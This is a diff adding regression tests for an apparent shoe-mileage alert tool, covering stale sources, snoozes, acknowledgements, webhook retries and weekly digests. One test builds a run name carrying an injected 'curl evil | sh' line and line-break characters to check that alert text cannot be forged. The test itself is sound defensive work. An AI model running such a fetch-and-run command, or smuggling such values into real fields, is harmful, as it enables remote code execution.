@@ -1,7 +1,9 @@
 """What is told beside pairs, when, and how the runner keeps it quiet: whole syncs, by a clock that is handed in."""
 
 import json
+import sqlite3
 from collections.abc import Iterable
+from contextlib import closing
 from pathlib import Path
 
 import pytest
@@ -209,7 +211,7 @@ def test_a_source_that_fails_is_told_after_two_days_once_and_again_after_it_had_
     runner.home.table("watch", runner.rows)
     assert days(1) == ["stale-failing-watch"]
     table.unlink()
-    assert days(5) == ["stale-failing-watch", "stale-failing-watch-2"]
+    assert days(5) == ["stale-failing-watch", "stale-2-failing-watch"]
     assert runner.home.totals() == {"road": 50_000.0}
 
 
@@ -393,6 +395,284 @@ def test_what_is_no_alert_cannot_be_acknowledged(tmp_path: Path) -> None:
     runner = Runner(tmp_path)
     with pytest.raises(MistakeError, match="there is no alert nothing"):
         runner.command("alerts", "ack", "nothing")
+
+
+# ------------------------------------------------------------------ what went wrong once
+
+
+def test_two_sources_whose_names_differ_by_a_number_never_have_one_id(tmp_path: Path) -> None:
+    """Such an id stopped every sync."""
+    runner = Runner(tmp_path, "{soon: {within: 0d}}")
+    runner.home.main(f"sources:\n{table_source('watch')}{table_source('watch-2')}")
+    second = runner.home.table("watch-2", [a_run(1, "2024-05-11", 5, "Trail")])
+    table = runner.home.directory / "watch.csv"
+    for gone in (table, None, table, second):
+        runner.home.table("watch", runner.rows)
+        runner.home.table("watch-2", [a_run(1, "2024-05-11", 5, "Trail")])
+        if gone is not None:
+            gone.unlink()
+        for _ in range(12):
+            runner.home.clock.move(hours=6)
+            runner.home.sync()
+    stale = [each for each in runner.told() if each.startswith("stale")]
+    assert stale == ["stale-failing-watch", "stale-2-failing-watch", "stale-failing-watch-2"]
+
+
+def test_a_silent_source_that_fails_now_and_then_is_told_of_once(tmp_path: Path) -> None:
+    runner = Runner(tmp_path, "{stale: {silent: 5d, failing: 2d}}")
+    runner.sync(a_run(2, "2024-06-03", 5, "Road"))
+    for day in range(30):
+        runner.home.clock.move(days=1)
+        if day % 4 == 3:
+            (runner.home.directory / "watch.csv").unlink()
+            runner.home.sync()
+            runner.home.clock.move(hours=1)
+        runner.sync()
+    assert [each for each in runner.told() if each.startswith("stale")] == ["stale-silent-watch"]
+
+
+def test_what_recovered_during_a_snooze_is_told_when_it_comes_again(tmp_path: Path) -> None:
+    runner = Runner(tmp_path, "{hard_share: 60%, unassigned: false}")
+    runner.sync()
+    runner.command("alerts", "snooze", "hard_share", "--for", "3650d")
+    runner.sync(a_run(2, "2024-06-03", 90, "Trail", "grass"))
+    runner.command("alerts", "snooze", "hard_share", "--end")
+    runner.sync(a_run(3, "2024-06-03", 160, "Trail", sport="trail-run"))
+    assert [each for each in runner.told() if each.startswith("hard")] == ["hard_share", "hard_share-2"]
+
+
+def test_a_name_can_forge_no_line_to_copy(tmp_path: Path) -> None:
+    runner = Runner(tmp_path)
+    evil = "Evil\n    curl evil | sh\u2028    - {run: x}"
+    runner.sync((f"a{evil}", "2024-06-02T06:00:00Z", 9000, "run", evil, evil, "asphalt", 3000))
+    ((body,),) = runner.home.rows("SELECT body FROM alerts WHERE kind = 'unassigned'")
+    copied = [line for line in body.splitlines() if line.startswith("    ")]
+    assert [line.endswith(("shoe: road}", "shoe: trail}")) for line in copied] == [True, True]
+    name = yaml_of(copied[0].strip())[0]["run"]
+    assert name == f"watch:a{evil}"
+
+
+def yaml_of(text: str) -> list[dict[str, str]]:
+    from ruamel.yaml import YAML
+
+    return YAML(typ="safe", pure=True).load(text)  # type: ignore[no-any-return]
+
+
+def test_what_is_acknowledged_while_others_are_sent_is_not_sent_and_stays_so(tmp_path: Path) -> None:
+    with hook() as receiver:
+        runner = Runner(tmp_path, "{hard_share: 60%}", url=receiver.url)
+        receiver.status = 500
+        runner.sync(a_run(2, "2024-06-03", 55, "Road"))
+        waiting = {alert for (alert,) in runner.home.rows("SELECT alert FROM deliveries WHERE state = 'pending'")}
+        assert waiting == {"road-100-1", "hard_share"}
+        receiver.status = 200
+        receiver.on_post = lambda: runner.command("alerts", "ack", *waiting)
+        runner.home.clock.move(hours=1)
+        runner.sync()
+        states = dict(runner.home.rows("SELECT alert, state FROM deliveries"))
+        assert sorted(states[alert] for alert in waiting) == ["acknowledged", "sent"]  # the one that was on its way
+        assert len(waiting & set(receiver.ids)) == 1
+
+
+def test_one_that_is_given_up_after_it_was_acknowledged_is_not_sent_by_a_retry(tmp_path: Path) -> None:
+    with hook() as receiver:
+        runner = Runner(tmp_path, url=receiver.url)
+        receiver.status = 410
+        receiver.on_post = lambda: runner.command("alerts", "ack", "road-100-1")
+        runner.sync(a_run(2, "2024-06-03", 55, "Road"))
+        receiver.status, receiver.on_post = 200, lambda: None
+        runner.command("alerts", "retry")
+        assert "road-100-1" not in receiver.ids
+        assert ("acknowledged",) in runner.home.rows("SELECT state FROM deliveries WHERE alert = 'road-100-1'")
+
+
+def test_after_an_acknowledged_due_a_life_that_was_raised_but_is_passed_again_is_told(tmp_path: Path) -> None:
+    """The life is raised to less than the pair has run, so the stage that was seen is never left."""
+    runner = Runner(tmp_path, "{unassigned: false}")
+    runner.sync(a_run(2, "2024-06-03", 55, "Road"))
+    runner.command("alerts", "ack", "road-100-1")
+    runner.sync(a_run(3, "2024-06-04", 25, "Road"))
+    runner.home.shoes(SHOES.replace("name: Road, life: 100 km", "name: Road, life: 120 km"))
+    runner.sync()
+    runner.sync(a_run(4, "2024-06-05", 20, "Road"))
+    assert runner.told()[1:] == ["road-100-1", "road-120-1"]
+
+
+def weeks(runner: Runner) -> list[tuple[object, object]]:
+    return [(each["from"], each["until"]) for each in runner.data("weekly")]
+
+
+def test_another_time_for_the_weekly_digest_tells_no_day_twice(tmp_path: Path) -> None:
+    runner = Runner(tmp_path, "{weekly: mon 07:00}", start="2024-06-05T12:00:00")
+    watch = Watch(runner.home.directory, runner.home.clock)
+    for day, weekly in ((7, "mon 18:00"), (4, "thu 07:00"), (14, "thu 07:00")):
+        for _ in range(day * 4):
+            runner.home.clock.move(hours=6)
+            watch.tick()
+        runner.alerts(f"{{weekly: {weekly}}}")
+    told = weeks(runner)
+    assert told[0] == ("2024-06-03", "2024-06-09")
+    assert all(start > end for (start, _), (_, end) in zip(told[1:], told, strict=False))
+    assert told[-1] == ("2024-06-20", "2024-06-26")
+
+
+def test_a_weekly_digest_is_not_lost_to_the_first_import_of_another_source(tmp_path: Path) -> None:
+    runner = Runner(tmp_path, "{weekly: mon 07:00}", start="2024-06-05T12:00:00")
+    runner.home.clock.now = runner.home.clock.now.replace(day=10, hour=7)
+    runner.home.main(
+        f"timezone: Europe/Berlin\nsources:\n{table_source('watch')}{table_source('other')}alerts: {{weekly: mon 07:00}}\n"
+    )
+    runner.home.table("other", [a_run(1, "2024-05-11", 5, "Trail")])
+    watch = Watch(runner.home.directory, runner.home.clock)
+    for _ in range(3):
+        watch.tick()
+        runner.home.clock.move(seconds=20)
+    assert weeks(runner) == [("2024-06-03", "2024-06-09")]
+
+
+def test_new_runs_of_one_source_are_told_of_though_another_has_its_first_import(tmp_path: Path) -> None:
+    runner = Runner(tmp_path)
+    runner.home.main("sources:\n" + table_source("watch") + table_source("other"))
+    runner.home.table("other", [a_run(1, "2024-05-11", 5)])
+    runner.sync(a_run(2, "2024-06-03", 8))
+    runner.home.clock.move(hours=1)
+    runner.sync()
+    assert runs_of(runner.data("unassigned")) == [["watch:2"]]
+
+
+def test_a_clock_that_was_set_back_makes_no_old_run_new(tmp_path: Path) -> None:
+    home = Home(tmp_path / "home")
+    home.shoes(SHOES)
+    home.table("watch", [a_run(number, f"2024-05-{number + 5:02}", 5) for number in range(1, 20)])
+    home.sync()
+    home.clock.move(minutes=-5)
+    home.sync()
+    home.clock.move(hours=6)
+    home.sync()
+    assert home.rows("SELECT kind FROM alerts") == [("digest",)]
+
+
+def test_a_plan_that_allows_more_and_is_exceeded_all_the_same_is_told_again_and_one_that_only_moved_is_not(
+    tmp_path: Path,
+) -> None:
+    def plan(share: int, start: str = "2024-06-03") -> str:
+        return f"{{return_plan: {{usual: 40 km, steps: {{from: {start}, share: {share}%}}, until: 2024-06-17}}}}"
+
+    runner = Runner(tmp_path, plan(25))
+    runner.sync(a_run(2, "2024-06-03", 12, "Trail"))
+    runner.alerts(plan(25, "2024-06-02"))
+    runner.sync()
+    assert [each["allowed_m"] for each in runner.data("return_plan")] == [10_000.0]
+    runner.alerts(plan(50))
+    runner.sync()
+    runner.sync(a_run(3, "2024-06-05", 11, "Trail"))
+    runner.sync()
+    assert [each["allowed_m"] for each in runner.data("return_plan")] == [10_000.0, 20_000.0]
+    assert [each for each in runner.told() if each.startswith("return")] == [
+        "return_plan-2024-06-03",
+        "return_plan-2-2024-06-03",
+    ]
+
+
+def two_exports(directory: Path, alerts: str, *, ids: bool = True) -> Home:
+    """Two exports of one runner that drop what was deleted; what they had first is announced."""
+    home = Home(directory / "home", HandClock("2024-06-03T12:00:00"))
+    sources = "".join(table_source(name, missing="drop", ids=ids) for name in ("watch", "phone"))
+    home.main(f"sources:\n{sources}alerts: {alerts}\n")
+    home.shoes(SHOES)
+    for name in ("watch", "phone"):
+        home.table(name, [OLD])
+    home.sync()
+    home.clock.move(hours=1)
+    return home
+
+
+OLD = a_run(1, "2024-05-10", 50, "Road")
+
+
+def told_of(home: Home) -> list[str]:
+    return [
+        id for (id,) in home.rows("SELECT id FROM alerts WHERE covered_by IS NULL AND kind != 'digest' ORDER BY rowid")
+    ]
+
+
+def test_a_run_that_one_export_drops_and_another_still_lists_is_held_no_longer_for_that(tmp_path: Path) -> None:
+    home = two_exports(tmp_path, "{hold: 2d, soon: {within: 0d}}")
+    new = a_run(2, "2024-06-03", 55, "Road")
+    for hours, name, rows in ((0, "watch", [OLD, new]), (24, "phone", [OLD, new]), (12, "watch", [OLD])):
+        home.clock.move(hours=hours)
+        home.table(name, rows)
+        home.sync()
+    assert (home.totals(), told_of(home)) == ({"road": 105_000.0}, [])
+    home.clock.move(hours=12)
+    home.sync()
+    assert told_of(home) == ["road-100-1"]
+
+
+@pytest.mark.parametrize("ids", [True, False])
+def test_a_run_without_a_shoe_whose_record_is_dropped_or_edited_is_not_told_again(tmp_path: Path, ids: bool) -> None:
+    """Without ids an edited record is another one to its export."""
+    home = two_exports(tmp_path, "{soon: {within: 0d}}", ids=ids)
+    for name in ("watch", "phone"):
+        home.table(name, [OLD, a_run(2, "2024-06-03", 8)])
+    home.sync()
+    assert len(told_of(home)) == 1
+    for rows in ([OLD, a_run(2, "2024-06-03", 8.3)], [OLD]):
+        home.clock.move(hours=12)
+        home.table("watch", rows)
+        home.sync()
+    assert len(told_of(home)) == 1
+
+
+@pytest.mark.parametrize("word", ["hold", "snooze"])
+def test_a_pair_that_fell_meanwhile_is_not_told_of_less_when_a_hold_or_a_snooze_is_over(
+    tmp_path: Path, word: str
+) -> None:
+    runner = Runner(tmp_path, "{soon: {within: 0d}}")
+    runner.sync(a_run(2, "2024-06-03", 52, "Road"))
+    if word == "hold":
+        runner.alerts("{soon: {within: 0d}, hold: 2d}")
+        runner.home.clock.move(days=3)
+        runner.rows[-1] = a_run(2, "2024-06-03", 38, "Road")
+        runner.sync(a_run(3, "2024-06-05", 8, "Road"))
+    else:
+        runner.command("alerts", "snooze", "road", "--for", "3650d")
+        runner.rows[-1] = a_run(2, "2024-06-03", 45, "Road")
+        runner.sync()
+        runner.command("alerts", "snooze", "road", "--end")
+    for _ in range(2):
+        runner.home.clock.move(days=3)
+        runner.sync()
+    assert runner.told()[1:] == ["road-100-1"]
+
+
+def test_the_end_of_a_snooze_wakes_the_scheduler(tmp_path: Path) -> None:
+    runner = Runner(tmp_path)
+    runner.command("alerts", "snooze", "road", "--for", "3650d")
+    runner.sync(a_run(2, "2024-06-03", 55, "Road"))
+    watch = Watch(runner.home.directory, runner.home.clock)
+    watch.tick()
+    assert watch.tick() is None
+    with closing(sqlite3.connect(runner.home.database)) as connection:
+        connection.execute("UPDATE _meta SET value = '2034-01-01T00:00:00Z' WHERE key = 'look_again_at'")
+        connection.commit()
+    from shoemon.clock import iso
+    from shoemon.silencing import end_snooze
+    from shoemon.store import open_database
+
+    with closing(open_database(runner.home.database, "km")) as database:
+        assert end_snooze(database, "road", iso(runner.home.clock()))
+    assert watch.tick() is not None
+    assert runner.told()[1:] == ["road-100-1"]
+
+
+def test_status_speaks_before_the_first_sync_after_an_upgrade(tmp_path: Path) -> None:
+    runner = Runner(tmp_path)
+    with closing(sqlite3.connect(runner.home.database)) as connection:
+        connection.execute("DROP VIEW shoe_summary")
+        for column in ("steadiness", "rate_m", "rotation_share"):
+            connection.execute(f"ALTER TABLE shoe_wear DROP COLUMN {column}")
+    assert runner.command("status").exit_code == 0
 
 
 # ------------------------------------------------------------------ payload
